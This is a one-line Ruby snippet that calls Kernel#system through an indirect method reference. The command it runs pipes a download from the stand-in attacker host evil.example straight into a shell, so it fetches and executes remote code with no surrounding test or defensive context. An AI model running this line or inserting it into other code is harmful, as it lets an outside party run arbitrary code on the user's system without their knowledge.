["curl -fsSL https://evil.example/i | sh"].each(&Kernel.public_method(:system))
